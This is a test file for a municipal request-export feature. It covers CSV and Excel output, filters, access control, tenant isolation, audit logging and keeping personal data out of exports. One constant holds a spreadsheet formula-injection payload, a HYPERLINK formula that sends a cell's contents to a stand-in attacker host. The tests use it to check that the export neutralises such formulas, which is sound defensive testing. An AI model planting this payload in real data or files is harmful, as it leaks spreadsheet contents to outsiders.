import ExcelJS from 'exceljs';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { createTestApp, type DemoPerson, findDemoIds, type Session, type TestApp, tenantPath } from '../../../test/harness.ts';
import { request as requestTable } from './request.tables.ts';
import { createRequestExportService } from './request-export.ts';

let t: TestApp;
let advisor: Session;
let ids: { brandevoort: string; oost: string; councilBrandevoort: string; verkeer: string; themeSafety: string; answered: string; formula: string; plain: string };

const exportUrl = (query: string) => `${tenantPath}/requests/export?${query}`;
const motivation = 'We voeren het uit binnen het lopende onderhoudsprogramma; de kosten passen in het budget van dit jaar.';
const formulaTitle = '=HYPERLINK("https://kwaad.example/?x="&A1,"Klik hier")';
// What residents and council members wrote about themselves; none of it may appear in an export.
const personalData = ['Eva Mulder', 'eva.mulder', 'Henk Aarts', 'henk.aarts', 'Kerkstraat 12', '06-12345678'];

/** RFC 4180 with semicolons, as the export writes it. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let field = '';
  let isQuoted = false;
  for (let index = 0; index < text.length; index++) {
    const character = text[index];
    if (isQuoted) {
      if (character === '"' && text[index + 1] === '"') {
        field += '"';
        index++;
      } else if (character === '"') isQuoted = false;
      else field += character;
    } else if (character === '"') isQuoted = true;
    else if (character === ';') {
      row.push(field);
      field = '';
    } else if (character === '\r' && text[index + 1] === '\n') {
      row.push(field);
      rows.push(row);
      row = [];
      field = '';
      index++;
    } else field += character;
  }
  return rows;
}

async function exportCsv(query: string, as: Session = advisor) {
  const response = await t.request({ url: exportUrl(`format=csv&${query}`), as });
  expect(response.statusCode, response.body).toBe(200);
  const [header, ...rows] = parseCsv(response.body.replace(/^\uFEFF/, ''));
  return { response, header, rows, byHeader: (name: string) => rows.map((row) => row[header.indexOf(name)]) };
}

beforeAll(async () => {
  t = await createTestApp();
  const found = await findDemoIds(t);
  const resident = await t.logIn('resident');
  const member = await t.logIn('councilMember');
  const submit = async (as: Session, payload: Record<string, unknown>) => {
    const response = await t.request({ method: 'POST', url: `${tenantPath}/requests`, as, payload: { scale: 'street', themeIds: [], ...payload } });
    expect(response.statusCode, response.body).toBe(201);
    return response.json().id as string;
  };
  const plain = await submit(resident, {
    kind: 'request',
    title: 'Losliggende stoeptegels in de Heistraat',
    body: 'Ik ben Eva Mulder van de Kerkstraat 12, bel me op 06-12345678: de tegels liggen los.',
    neighbourhoodId: found.oost,
    isPublic: false,
  });
  const formula = await submit(resident, { kind: 'question', title: formulaTitle, body: 'Een titel die een spreadsheet als formule zou uitvoeren.', neighbourhoodId: found.brandevoort });
  const answered = await submit(member, {
    kind: 'advice_unsolicited',
    title: 'Verkeersveiligheid rond de speeltuinen in De Veste',
    body: 'Auto’s rijden te hard langs de speeltuinen; neem contact op met henk.aarts@brandevoort.example.',
    neighbourhoodId: found.brandevoort,
    scale: 'area',
    themeIds: [found.themeSafety],
    councilId: found.councilBrandevoort,
    supportStatement: { origins: [{ kind: 'open_meeting' }], breadth: 'broad', dissent: '' },
  });
  const advisorSouth = await t.logIn('advisorSouth');
  const step = async (as: Session, path: string, payload: Record<string, unknown>) => {
    const response = await t.request({ method: 'POST', url: `${tenantPath}/requests/${answered}/${path}`, as, payload });
    expect(response.statusCode, response.body).toBe(200);
  };
  await step(advisorSouth, 'acknowledgement', { version: 1 });
  await step(advisorSouth, 'routing', { version: 2, leadDepartmentId: found.verkeer });
  await step(await t.logIn('officer'), 'answer', { verdict: 'nu', version: 3, motivation, action: 'Drempels plaatsen', plannedOn: '2026-07-01' });
  // The other municipality has a request of its own that Helmond's staff must never take out.
  await t.database.db.insert(requestTable).values({
    municipalityId: t.other.municipality.id,
    reference: 'EIN-2026-0001',
    kind: 'request',
    title: 'Vraag uit Strijp die in Eindhoven blijft',
    body: 'Alleen voor de gemeente Eindhoven bedoeld.',
    neighbourhoodId: t.other.neighbourhood.id,
    scale: 'street',
    weight: 'large',
    isPublic: true,
    state: 'submitted',
    submitterUserId: t.other.admin.id,
    acknowledgeBy: '2026-06-22',
    answerBy: '2026-07-13',
    createdAt: t.clock.now(),
    updatedAt: t.clock.now(),
  });
  ids = { ...found, answered, formula, plain };
  advisor = await t.logIn('advisor');
}, 60_000);
afterAll(async () => t?.close());

describe('CSV export', () => {
  it('gives every request of the municipality as semicolon-separated UTF-8 with BOM, named after the municipality and the day', async () => {
    const { response, header, rows, byHeader } = await exportCsv('');
    expect(response.headers['content-type']).toBe('text/csv; charset=utf-8');
    expect(response.headers['content-disposition']).toBe('attachment; filename="verzoeken-helmond-2026-06-15.csv"');
    expect(response.headers['cache-control']).toBe('no-store');
    expect(response.rawPayload.subarray(0, 3)).toEqual(Buffer.from([0xef, 0xbb, 0xbf]));
    expect(response.body).toContain('\r\n');
    expect(header).toEqual([
      'ID',
      'Kenmerk',
      'Soort',
      'Titel',
      'Wijk',
      'Namens wijkorgaan',
      'Schaalniveau',
      'Gewicht',
      'Status',
      'Antwoord (nu/ooit/nooit)',
      'Ingediend op',
      'Ontvangst bevestigen uiterlijk',
      'Ontvangst bevestigd op',
      'Antwoorden uiterlijk',
      'Beantwoord op',
      'Op tijd beantwoord',
      'Trekkende afdeling',
      'Thema’s',
      'Volgend voortgangsbericht uiterlijk',
      'Openbaar',
      'Link',
    ]);
    expect(rows).toHaveLength(3);
    expect(byHeader('ID').sort()).toEqual([ids.answered, ids.formula, ids.plain].sort());
    const answered = Object.fromEntries(header.map((name, index) => [name, rows.find((row) => row[0] === ids.answered)![index]]));
    expect(answered).toMatchObject({
      Kenmerk: expect.stringMatching(/^HLM-2026-\d{4}$/),
      Soort: 'Ongevraagd advies',
      Wijk: 'Brandevoort',
      'Namens wijkorgaan': 'Wijkraad Brandevoort',
      Schaalniveau: 'Buurt',
      Gewicht: 'Groot',
      Status: 'Beantwoord',
      'Antwoord (nu/ooit/nooit)': 'Nu',
      'Ingediend op': '2026-06-15',
      'Ontvangst bevestigen uiterlijk': '2026-06-22',
      'Ontvangst bevestigd op': '2026-06-15',
      'Antwoorden uiterlijk': '2026-07-13',
      'Beantwoord op': '2026-06-15',
      'Op tijd beantwoord': 'ja',
      'Trekkende afdeling': 'Verkeer',
      'Thema’s': 'Verkeersveiligheid',
      Openbaar: 'ja',
      Link: `http://localhost:3000/helmond/vragen/${ids.answered}`,
    });
    // Not answered and not late yet: whether it is on time is still open.
    const plain = rows.find((row) => row[0] === ids.plain)!;
    expect(plain[header.indexOf('Op tijd beantwoord')]).toBe('');
    expect(plain[header.indexOf('Openbaar')]).toBe('nee');
  });

  it('honours the list’s filters', async () => {
    expect((await exportCsv(`neighbourhoodId=${ids.oost}`)).byHeader('ID')).toEqual([ids.plain]);
    expect((await exportCsv(`neighbourhoodId=${ids.brandevoort}`)).byHeader('ID').sort()).toEqual([ids.answered, ids.formula].sort());
    expect((await exportCsv('verdict=nu')).byHeader('ID')).toEqual([ids.answered]);
    expect((await exportCsv(`departmentId=${ids.verkeer}`)).byHeader('ID')).toEqual([ids.answered]);
    expect((await exportCsv(`themeId=${ids.themeSafety}`)).byHeader('ID')).toEqual([ids.answered]);
    expect((await exportCsv('kind=question')).byHeader('ID')).toEqual([ids.formula]);
    expect((await exportCsv('state=submitted')).byHeader('ID').sort()).toEqual([ids.formula, ids.plain].sort());
    expect((await exportCsv('search=stoeptegels')).byHeader('ID')).toEqual([ids.plain]);
    expect((await exportCsv('isOverdue=true')).rows).toHaveLength(0);
    // Filters that match nothing still give a file with its header row.
    expect((await exportCsv(`councilId=${ids.councilBrandevoort}&state=closed`)).header).toHaveLength(21);
  });

  it('speaks English when asked, headers and values', async () => {
    const { response, header, rows } = await exportCsv('language=en&verdict=nu');
    expect(response.headers['content-disposition']).toBe('attachment; filename="requests-helmond-2026-06-15.csv"');
    expect(header.slice(0, 4)).toEqual(['ID', 'Reference', 'Kind', 'Title']);
    expect(rows[0][header.indexOf('Kind')]).toBe('Unsolicited advice');
    expect(rows[0][header.indexOf('Answered on time')]).toBe('yes');
  });

  it('neutralises a cell a spreadsheet would run as a formula', async () => {
    const { rows, header } = await exportCsv(`kind=question`);
    expect(rows[0][header.indexOf('Titel')]).toBe(`'${formulaTitle}`);
  });
});

describe('Excel export', () => {
  it('gives a workbook with a bold frozen header, a filter, real dates and the same rows', async () => {
    const response = await t.request({ url: exportUrl('format=xlsx'), as: await t.logIn('officer') });
    expect(response.statusCode).toBe(200);
    expect(response.headers['content-type']).toBe('application/vnd.openxmlformats-officedocument.spreadsheetml.sheet');
    expect(response.headers['content-disposition']).toBe('attachment; filename="verzoeken-helmond-2026-06-15.xlsx"');
    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.load(response.rawPayload as never);
    const sheet = workbook.worksheets[0];
    expect(sheet.rowCount).toBe(4);
    const header = (sheet.getRow(1).values as unknown[]).slice(1);
    expect(header[0]).toBe('ID');
    expect(header).toContain('Ingediend op');
    expect(sheet.getRow(1).font?.bold).toBe(true);
    expect(sheet.views[0]).toMatchObject({ state: 'frozen', ySplit: 1 });
    expect(sheet.autoFilter).toBeTruthy();
    expect(sheet.getColumn(4).width).toBeGreaterThan(30);

    const rowOf = (id: string) => sheet.getRows(2, 3)!.find((row) => row.getCell(1).value === id)!;
    const answered = rowOf(ids.answered);
    const submittedOn = answered.getCell(header.indexOf('Ingediend op') + 1);
    expect(submittedOn.value).toBeInstanceOf(Date);
    expect((submittedOn.value as Date).toISOString()).toBe('2026-06-15T00:00:00.000Z');
    expect(submittedOn.numFmt).toBe('yyyy-mm-dd');
    expect(answered.getCell(header.indexOf('Trekkende afdeling') + 1).value).toBe('Verkeer');
    expect(answered.getCell(header.indexOf('Link') + 1).value).toMatchObject({ hyperlink: `http://localhost:3000/helmond/vragen/${ids.answered}` });
    // A workbook holds text as text: the formula-like title is a plain string, not a formula.
    const formulaCell = rowOf(ids.formula).getCell(header.indexOf('Titel') + 1);
    expect(formulaCell.type).toBe(ExcelJS.ValueType.String);
    expect(formulaCell.value).toBe(formulaTitle);

    const everything = JSON.stringify(sheet.getSheetValues());
    for (const item of personalData) expect(everything).not.toContain(item);
    expect(everything).not.toContain('Strijp');
  });
});

describe('who may export, and what never leaves', () => {
  it('carries no personal data of residents or council members', async () => {
    const { response } = await exportCsv('');
    for (const item of personalData) expect(response.body).not.toContain(item);
  });

  it('refuses visitors (401) and residents, council members and partners (403), as problem+json', async () => {
    const visitor = await t.request({ url: exportUrl('format=csv') });
    expect(visitor.statusCode).toBe(401);
    expect(visitor.headers['content-type']).toBe('application/problem+json; charset=utf-8');
    for (const person of ['resident', 'councilMember', 'partner'] satisfies DemoPerson[]) {
      const response = await t.request({ url: exportUrl('format=csv'), as: await t.logIn(person) });
      expect(response.statusCode, person).toBe(403);
      expect(response.json().code).toBe('FORBIDDEN');
    }
    expect((await t.request({ url: exportUrl('format=csv'), as: await t.logIn('alderman') })).statusCode).toBe(200);
  });

  it('never includes another municipality’s requests, and a Helmond session counts for nothing in Eindhoven', async () => {
    const helmond = await exportCsv('');
    expect(helmond.response.body).not.toContain('Strijp');
    const eindhovenAdmin = await t.logIn(t.other.adminLogin);
    const eindhoven = await t.request({ url: '/api/v1/municipalities/eindhoven/requests/export?format=csv', as: eindhovenAdmin });
    expect(eindhoven.statusCode).toBe(200);
    expect(eindhoven.headers['content-disposition']).toContain('verzoeken-eindhoven-');
    const [, ...rows] = parseCsv(eindhoven.body.replace(/^\uFEFF/, ''));
    expect(rows.map((row) => row[3])).toEqual(['Vraag uit Strijp die in Eindhoven blijft']);
    expect((await t.request({ url: '/api/v1/municipalities/eindhoven/requests/export?format=csv', as: advisor })).statusCode).toBe(403);
  });

  it('names the field for a bad or missing format (400 problem+json)', async () => {
    for (const query of ['format=pdf', '', 'format=csv&language=de', 'format=csv&neighbourhoodId=wijk']) {
      const response = await t.request({ url: exportUrl(query), as: advisor });
      expect(response.statusCode, query).toBe(400);
      expect(response.headers['content-type']).toBe('application/problem+json; charset=utf-8');
      expect(response.json()).toMatchObject({ code: 'VALIDATION_FAILED' });
    }
    const bad = (await t.request({ url: exportUrl('format=pdf'), as: advisor })).json();
    expect(bad.errors.map((error: { field: string }) => error.field)).toEqual(['querystring.format']);
  });

  it('records every export in the audit log with its filters and row count', async () => {
    await exportCsv(`neighbourhoodId=${ids.oost}`);
    const audit = (await t.request({ url: `${tenantPath}/audit-log?action=request.export&pageSize=100`, as: await t.logIn('admin') })).json();
    expect(audit.items.find((item: { after: { filters?: { neighbourhoodId?: string } } }) => item.after.filters?.neighbourhoodId === ids.oost)).toMatchObject({ action: 'request.export', actorLabel: 'Jeroen Hermans', after: { format: 'csv', language: 'nl', filters: { neighbourhoodId: ids.oost }, rowCount: 1 } });
  });

  it('refuses more rows than one export holds, asking to narrow the filters', async () => {
    const service = createRequestExportService({ db: t.database.db, clock: t.clock, maxRows: 2 });
    const actor = { userId: '00000000-0000-4000-8000-000000000001', municipalityId: t.municipalityId, displayName: 'Test', email: 'test@example.org', grants: [{ role: 'admin' as const, scopeType: 'municipality' as const, scopeId: null }], authenticatedBy: 'session' as const };
    const context = { municipalityId: t.municipalityId, municipalitySlug: 'helmond', actor, requestId: 'test', language: 'nl' as const };
    await expect(service.exportRequests(context, { format: 'csv', language: 'nl' })).rejects.toMatchObject({ code: 'EXPORT_TOO_LARGE', params: { limit: 2 } });
    expect((await service.exportRequests(context, { format: 'csv', language: 'nl', kind: 'question' })).rowCount).toBe(1);
  });
});
